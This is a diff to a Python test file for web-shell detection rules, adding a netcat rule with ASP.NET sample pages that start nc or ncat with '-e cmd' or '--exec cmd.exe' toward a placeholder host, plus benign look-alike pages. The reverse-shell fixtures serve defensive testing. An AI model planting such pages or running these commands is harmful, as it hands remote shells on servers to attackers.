@@ -1,10 +1,11 @@
 """Rules written from the seventh unseen collection, shells inside tools (issue 14, helper X8).
 
-Three shapes the own rules missed on first sight (BENCHMARKS.md, "Unseen shells, seventh collection"):
+Four shapes the own rules missed on first sight (BENCHMARKS.md, "Unseen shells, seventh collection"):
 a page that carries an executable as a byte array, writes it to disk and starts it; a page that starts
 PowerShell with an encoded command kept in the page; a handler that reaches ``Assembly.Load`` only
 through reflection (``GetMethod("Load")`` + ``Invoke(null, ...)``) on bytes decoded from the request,
-written with a directive that names no directive. The pages below have those code shapes (and the
+written with a directive that names no directive; and (third batch) a user control that starts an
+uploaded netcat with ``-e cmd``. The pages below have those code shapes (and the
 benign ones the shapes of ordinary pages close to them). They were written for these tests: the
 "executables" are a few header bytes, the encoded command only prints a line of text, nothing is ever
 compiled or run, and none of them is a copy of a real shell.
@@ -239,11 +240,69 @@ LOADER_BENIGN: list[tuple[str, str, str]] = [
 ]
 
 
+# --- a page that starts netcat with its execute switch (third batch: a rewritten exploit control) -----
+NETCAT_RULE = "EXT_WEBSHELL_Netcat_Reverse_Shell_Launcher"
+
+NETCAT_SHELLS: list[tuple[str, str, str]] = [
+    (
+        "cs-control-uploaded-nc",
+        ".ascx",
+        '<%@ Control Language="C#" %>\n<script runat="server">\n'
+        "protected override void OnLoad(EventArgs e) {\n"
+        '    var nc = Server.MapPath("~/App_Data/files/nc64.exe");\n'
+        "    var p = new System.Diagnostics.Process();\n"
+        '    p.StartInfo.FileName = "cmd.exe";\n'
+        '    p.StartInfo.Arguments = "/C " + nc + " 192.0.2.10 4444 -e cmd";\n'
+        "    p.Start();\n}\n</script>",
+    ),
+    (
+        "vb-shell-nc-powershell",
+        ".aspx",
+        '<%@ Page Language="VB" %>\n<script runat="server">\n'
+        "Sub Page_Load(s As Object, e As EventArgs)\n"
+        '    Shell("C:\\Windows\\Temp\\nc.exe 192.0.2.10 443 -e powershell.exe", AppWinStyle.Hide)\n'
+        "End Sub\n</script>",
+    ),
+    (
+        "cs-ncat-exec",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%\n'
+        'System.Diagnostics.Process.Start("ncat.exe", "192.0.2.10 8443 --ssl --exec cmd.exe");\n%>',
+    ),
+]
+
+NETCAT_BENIGN: list[tuple[str, str, str]] = [
+    (
+        "netstat-statistics",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        '    var i = new System.Diagnostics.ProcessStartInfo("netstat.exe", "-e -s");\n'
+        "    i.RedirectStandardOutput = true; i.UseShellExecute = false;\n"
+        "    Output.Text = System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd();\n}\n</script>",
+    ),
+    (
+        "help-page-about-netcat",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<html><body>\n'
+        "<p>Attackers often run nc.exe with -e cmd to hand a shell to a listener; block outbound traffic.</p>\n"
+        "</body></html>",
+    ),
+    (
+        "tool-with-e-cmdlets-option",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        '    System.Diagnostics.Process.Start(Server.MapPath("~/bin/inventory.exe"), "-e cmdlets");\n}\n</script>',
+    ),
+]
+
 # --- each rule: its shells found, its benign shapes not, a log quoting a shell is not a page ----------
 CASES = (
     (DROPPER_RULE, DROPPER_SHELLS, DROPPER_BENIGN),
     (LAUNCHER_RULE, LAUNCHER_SHELLS, LAUNCHER_BENIGN),
     (LOADER_RULE, LOADER_SHELLS, LOADER_BENIGN),
+    (NETCAT_RULE, NETCAT_SHELLS, NETCAT_BENIGN),
 )
 FOUND = [(rule, *shell) for rule, shells, _ in CASES for shell in shells]
 NOT_FLAGGED = [(rule, *page) for rule, _, benign in CASES for page in benign]
